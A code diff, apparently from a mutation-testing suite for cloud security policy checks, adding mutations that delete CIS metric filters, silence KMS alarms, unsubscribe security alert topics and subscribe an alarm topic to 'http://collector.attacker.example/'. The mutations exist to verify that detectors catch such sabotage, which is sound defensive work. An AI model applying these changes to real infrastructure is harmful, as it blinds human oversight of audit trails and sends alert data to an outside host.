@@ -207,6 +207,24 @@ class AddResource(Change):
 
 
 @dataclass(frozen=True)
+class RemoveResources(Change):
+    """Delete every cloud resource whose logical name starts with `prefix` (at least one)."""
+
+    prefix: str
+
+    def apply(self, resources: _Resources) -> None:
+        prefix = self.prefix.replace("{s}", resources.graph.stack)
+        kept = [
+            r
+            for r in resources.items
+            if r.type.startswith("mlops:") or not r.name.startswith(prefix)
+        ]
+        if len(kept) == len(resources.items):
+            raise KeyError(f"no resource named {prefix}* in stack {resources.graph.stack}")
+        resources.items = kept
+
+
+@dataclass(frozen=True)
 class Mutation:
     id: str
     family: str
@@ -1133,6 +1151,86 @@ mutation(
     "serving",
     STACK_SOURCES,
     SetInput(MODEL, "executionRoleArn", f"arn:aws:iam::{FOREIGN}:role/inference"),
+)
+
+
+# ---- alarms that reach people (issue 15.5, 16.1) ----------------------------------------
+DELIVERY = "cloudtrail-delivers-to-encrypted-log-group"
+CIS = "cloudwatch-cis-metric-filters-alarmed"
+SUBSCRIBED = "sns-alarm-topic-subscribed-in-prod"
+mutation("trail-cloudwatch-delivery-dropped", "alerting", DELIVERY,
+         SetInput("mlops-{s}-trail", "cloudWatchLogsGroupArn", None, type=TRAIL))  # fmt: skip
+mutation(
+    "trail-delivers-with-flow-log-role",
+    "alerting",
+    DELIVERY,
+    SetInput(
+        "mlops-{s}-trail", "cloudWatchLogsRoleArn", "{arn:mlops-{s}-flow-logs-role}", type=TRAIL
+    ),
+)
+for slug in ("root-account-usage", "unauthorized-api-calls", "cloudtrail-changes"):
+    mutation(f"cis-filter-deleted-{slug}", "alerting", CIS,
+             RemoveResources(f"mlops-{{s}}-cis-{slug}"))  # fmt: skip
+mutation(
+    "cis-root-filter-narrowed-to-console",
+    "alerting",
+    CIS,
+    SetInput(
+        "mlops-{s}-cis-root-account-usage",
+        "pattern",
+        '{ $.userIdentity.type = "Root" && $.eventName = "ConsoleLogin" }',
+        type="aws:cloudwatch/logMetricFilter:LogMetricFilter",
+    ),
+)
+mutation(
+    "cis-kms-alarm-silenced",
+    "alerting",
+    CIS,
+    SetInput("mlops-{s}-cis-cmk-disable-or-deletion-alarm", "alarmActions", []),
+)
+mutation(
+    "cis-filters-moved-off-the-trail",
+    "alerting",
+    CIS,
+    *(
+        SetInput(
+            f"mlops-{{s}}-cis-{slug}",
+            "logGroupName",
+            "/aws/lambda/quiet",
+            type="aws:cloudwatch/logMetricFilter:LogMetricFilter",
+        )
+        for slug in ("iam-policy-changes", "security-group-changes")
+    ),
+)
+mutation(
+    "security-topic-unsubscribed",
+    "alerting",
+    SUBSCRIBED,
+    RemoveResources("mlops-{s}-security-email-"),
+    RemoveResources("mlops-{s}-security-webhook-"),
+    SetInput("mlops-{s}-slack", "snsTopicArns", ["{arn:mlops-{s}-alarms}"]),
+)
+mutation(
+    "serving-topic-unsubscribed",
+    "alerting",
+    SUBSCRIBED,
+    RemoveResources("mlops-{s}-serving-email-"),
+    RemoveResources("mlops-{s}-serving-webhook-"),
+    SetInput("mlops-{s}-slack", "snsTopicArns", ["{arn:mlops-{s}-security-alarms}"]),
+)
+mutation(
+    "alarm-topic-http-subscription",
+    "alerting",
+    SUBSCRIBED,
+    AddResource(
+        "aws:sns/topicSubscription:TopicSubscription",
+        "mlops-{s}-serving-http-collector",
+        {
+            "topic": "{arn:mlops-{s}-alarms}",
+            "protocol": "http",
+            "endpoint": "http://collector.attacker.example/",
+        },
+    ),
 )
 
 
